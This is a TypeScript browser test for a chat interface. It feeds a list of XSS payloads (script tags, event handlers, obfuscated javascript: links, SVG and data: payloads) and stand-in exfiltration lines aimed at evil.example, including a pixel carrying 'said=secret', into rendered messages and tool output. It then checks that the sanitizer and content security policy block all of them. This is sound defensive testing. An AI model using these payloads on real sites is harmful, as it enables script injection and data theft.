import { expect, test } from '@jest/globals';
import { request } from '@toolmesh/shared/test-kit/requests';
import { describeInBrowser, lastAnswer, picture, send, usePages } from './browser.ts';
import { begun, ended, said } from './fake-backend.ts';
import { called } from './results.ts';

const SVG = btoa('<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit=1"><script>parent.hit=1</script></svg>');

/** Text that a hostile page, file or model would have the page draw. `hit` is set if any of it ran. */
const ATTACKS: readonly string[] = [
  '<script>window.hit = 1</script>',
  '<img src=x onerror="window.hit = 1">',
  '<svg onload="window.hit = 1"><script>window.hit = 1</script></svg>',
  '<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>',
  '<a href="javascript:window.hit=1">html link</a>',
  '<style>* { background: url(https://evil.example/style) }</style>',
  '<form action="https://evil.example/form"><button>html button</button></form>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/meta">',
  '<base href="https://evil.example/base">',
  '[click me](javascript:window.hit=1)',
  '[disguised](&#106;avascript:window.hit=1)',
  '[with a tab](java\tscript:window.hit=1)',
  '[with a break](<java\nscript:window.hit=1>)',
  '[data](data:text/html;base64,PHNjcmlwdD5oaXQ9MTwvc2NyaXB0Pg==)',
  '[vbscript](vbscript:window.hit=1)',
  '[path](/sessions)',
  '<javascript:window.hit=1>',
  '[ref][evil]\n\n[evil]: javascript:window.hit=1',
  '![pixel](https://evil.example/pixel.png?said=secret)',
  '![ref][pixel]\n\n[pixel]: https://evil.example/ref.png',
  '![path](/sessions/abc/export)',
  `![svg](data:image/svg+xml;base64,${SVG})`,
  '![protocol](//evil.example/relative.png)',
  '`<img src=x onerror=window.hit=1>`',
  '```html\n<script>window.hit = 1</script>\n```',
  '| <img src=x onerror=window.hit=1> |\n|---|\n| <script>window.hit=1</script> |',
  '<details open ontoggle="window.hit=1"><summary>x</summary></details>',
];

describeInBrowser('what others have written', () => {
  const { start, expectMisdeeds } = usePages();

  test('cannot run script, load anything, or look like a part of the page', async () => {
    const text = ATTACKS.join('\n\n');
    const { page, backend } = await start(({ plays, state }) => {
      plays(({ send: emit }) =>
        emit(
          ...begun(),
          { type: 'data-notice', data: { code: 'x', message: ATTACKS[1] } },
          { type: 'reasoning-start', id: 'r' },
          { type: 'reasoning-delta', id: 'r', delta: text },
          ...called('c1', ATTACKS[1] ?? '', { code: ATTACKS[1], language: 'html' }),
          {
            type: 'tool-output-available',
            toolCallId: 'c1',
            output: {
              is_error: true,
              content: [
                { type: 'text', text },
                { type: 'image', data: SVG, mimeType: 'image/svg+xml' },
                { type: 'image', data: '" onerror="window.hit=1', mimeType: 'image/png' },
                { type: 'resource_link', uri: 'https://evil.example/resource' },
              ],
            },
          },
          ...said(text),
          ...ended(),
        ),
      );
      state.sessions.set('s', { title: ATTACKS[1] ?? '', updated_at: new Date().toISOString(), messages: [] });
      state.tools = [{ name: ATTACKS[1], description: text, server: ATTACKS[2], input_schema: {}, annotations: {} }];
    });
    await send(page, text);
    const answer = lastAnswer(page);
    await answer.getByText('1,234 tokens').waitFor();
    await page.getByText('Thought').click();
    await page.getByRole('button', { name: 'Tools', exact: true }).click();
    await page.locator('.tool-row summary').click();
    await picture(page, 'xss');

    expect(await page.evaluate(() => 'hit' in window)).toBe(false);
    for (const tag of ['script', 'iframe', 'style', 'form', 'meta', 'base', 'object', 'details']) {
      expect(await answer.locator(`.markdown ${tag}`).count()).toBe(0);
    }
    const elements = await answer
      .locator('.markdown *')
      .evaluateAll((all) =>
        all.flatMap((element) =>
          element.getAttributeNames().filter((name) => name.startsWith('on') || name === 'style'),
        ),
      );
    expect(elements).toEqual([]);
    const links = await answer
      .locator('.markdown a')
      .evaluateAll((all) => all.map((link) => link.getAttribute('href')));
    expect(links).toEqual(['https://evil.example/pixel.png?said=secret', 'https://evil.example/ref.png']);
    for (const link of await answer.locator('.markdown a').all()) {
      expect(await link.getAttribute('rel')).toBe('noopener noreferrer');
    }
    expect(await answer.locator('.markdown img').count()).toBe(0);
    expect(await answer.getByText('from evil.example, not loaded').count()).toBe(2);
    // Only the backend's own API was called, and of that only what the page itself calls.
    expect(backend.seen.map(({ path }) => path).filter((path) => /evil|abc|hit/.test(path))).toEqual([]);
    // An SVG shown as a picture is inert, and the one that is no picture is not shown.
    expect(await page.getByRole('img', { name: 'Image image-2' }).count()).toBe(1);
    expect(await page.getByRole('img', { name: 'Image image-3' }).count()).toBe(0);
  });

  test('is stopped by the page’s policy, too: no inline script, no markup from strings, no foreign address', async () => {
    const { page, backend } = await start();
    const { headers } = await request(backend.url);
    expect(headers.get('content-security-policy')).toContain("default-src 'self'; script-src 'self'; style-src 'self'");
    await page.evaluate(() => {
      const refused = document.createElement('ul');
      refused.id = 'refused';
      document.body.append(refused);
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
        refused.append(Object.assign(document.createElement('li'), { textContent: effectiveDirective }));
      });
      try {
        document.body.innerHTML = '<b>x</b>';
      } catch {
        // Refused, which the event tells.
      }
      document.body.append(Object.assign(document.createElement('style'), { textContent: '* { color: red }' }));
      document.body.append(Object.assign(new Image(), { src: 'https://evil.example/x.png' }));
      fetch('https://evil.example/').catch(() => {});
    });
    for (const directive of ['require-trusted-types-for', 'style-src-elem', 'img-src', 'connect-src']) {
      await page.locator('#refused').getByText(directive, { exact: true }).first().waitFor();
    }
    expectMisdeeds();
  });
});
